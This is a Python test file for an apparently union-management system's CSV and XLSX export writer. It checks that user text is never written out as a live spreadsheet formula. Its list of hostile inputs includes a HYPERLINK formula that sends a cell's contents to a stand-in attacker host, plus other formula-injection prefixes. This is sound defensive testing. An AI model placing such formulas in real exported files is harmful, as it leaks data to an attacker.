"""The one export writer never turns a person's text into a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

from python_calamine import CalamineWorkbook

from gonghui.kernel.exporting import (
    Cell,
    LongNumber,
    Sheet,
    Validation,
    csv_bytes,
    side_by_side,
    xlsx_bytes,
    xlsx_file,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "+86 138",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def test_xlsx_writes_hostile_text_as_text_and_no_formula_at_all():
    rows = [[name, 1, Decimal("12.50"), dt.date(2026, 3, 1)] for name in HOSTILE]
    data = xlsx_file(Sheet(name="名单", header=["姓名", "数", "金额", "日期"], rows=rows), actor=None).read()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    book = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert [r[0] for r in book[2:]] == HOSTILE
    assert book[0][0].startswith("导出人：系统") and book[1] == ["姓名", "数", "金额", "日期"]
    assert book[2][2] == 12.5 and book[2][3] in (dt.date(2026, 3, 1), dt.datetime(2026, 3, 1))


def test_csv_neutralises_a_formula_at_the_start_of_a_text_cell_only():
    text = csv_bytes([[name, -5, "中间=不算"] for name in HOSTILE], header=["姓名", "数", "备注"]).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0].startswith("导出人：") and rows[1] == ["姓名", "数", "备注"]
    assert [r[0] for r in rows[2:]] == ["'" + name for name in HOSTILE]
    assert {r[1] for r in rows[2:]} == {"-5"}  # numbers stay numbers
    assert {r[2] for r in rows[2:]} == {"中间=不算"}


def test_a_long_number_stays_text_and_only_digits_get_the_tab():
    text = csv_bytes(
        [[LongNumber("6222020200112233445")], [LongNumber("=1+1")], [Cell("=A1", "head")]], marked=False
    ).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["\t6222020200112233445"], ["'=1+1"], ["'=A1"]]
    data = xlsx_bytes(
        Sheet("卡号", header=["银行卡号"], rows=[[LongNumber("6222020200112233445")]]), marked=False
    )
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()[1] == [
        "6222020200112233445"
    ]


def test_the_watermark_line_can_be_left_out_given_or_added_to():
    assert csv_bytes([], header=["户名"], marked=False).decode("utf-8-sig") == "户名\r\n"
    given = csv_bytes([], header=["户名"], mark="导出人：某某", title="=标题").decode("utf-8-sig")
    assert given.splitlines() == ["导出人：某某", "'=标题", "户名"]
    noted = csv_bytes([], note="仅限工会工作使用").decode("utf-8-sig")
    assert noted.startswith("导出人：系统") and noted.strip().endswith("仅限工会工作使用")


def test_a_template_book_has_its_lists_validations_notes_and_frozen_header():
    form = Sheet(
        "名册",
        title="=某工会会员花名册",
        merge_title=True,
        header=[Cell("姓名", "required"), "民族", "入会日期"],
        header_notes={0: "必填"},
        rows=(),
        widths=[12, 12, 14],
        input_styles={2: "date"},
        validations=[Validation(1, {"validate": "list", "source": "=选项!$A$2:$A$3"}, rows=100)],
        frozen=1,
    )
    options = Sheet(
        "选项", header=(), rows=side_by_side(["民族", "汉族", "壮族"], ["是否", "是"]), hidden=True
    )
    data = xlsx_bytes(
        [form, options], marked=False, styles={"required": {"bold": True, "font_color": "#b7121f"}}
    )
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        book = zf.read("xl/workbook.xml").decode()
        names = zf.namelist()
    assert '<mergeCell ref="A1:C1"/>' in sheet and 'sqref="B3:B102"' in sheet
    assert '<pane xSplit="1" ySplit="2"' in sheet and "<f>" not in sheet
    assert 'name="选项" sheetId="2" state="hidden"' in book and any("comments" in n for n in names)
    wb = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert wb.get_sheet_by_index(0).to_python()[:2] == [
        ["=某工会会员花名册", "", ""],
        ["姓名", "民族", "入会日期"],
    ]
    assert wb.get_sheet_by_name("选项").to_python() == [["民族", "是否"], ["汉族", "是"], ["壮族", ""]]


def test_notes_above_the_header_and_styled_cells():
    sheet = Sheet("统计", title="标题", notes=["说明：=不是公式", ""], header=["单位", "率"],
                  rows=[[Cell("合计", "bold"), 0.5]], styles={1: "pct"})  # fmt: skip
    data = xlsx_bytes(sheet, actor=None, styles={"bold": {"bold": True}, "pct": {"num_format": "0.00%"}})
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[0][0].startswith("导出人：系统") and rows[1][0] == "标题" and rows[2][0] == "说明：=不是公式"
    assert rows[3] == ["", ""] and rows[4] == ["单位", "率"] and rows[5] == ["合计", 0.5]
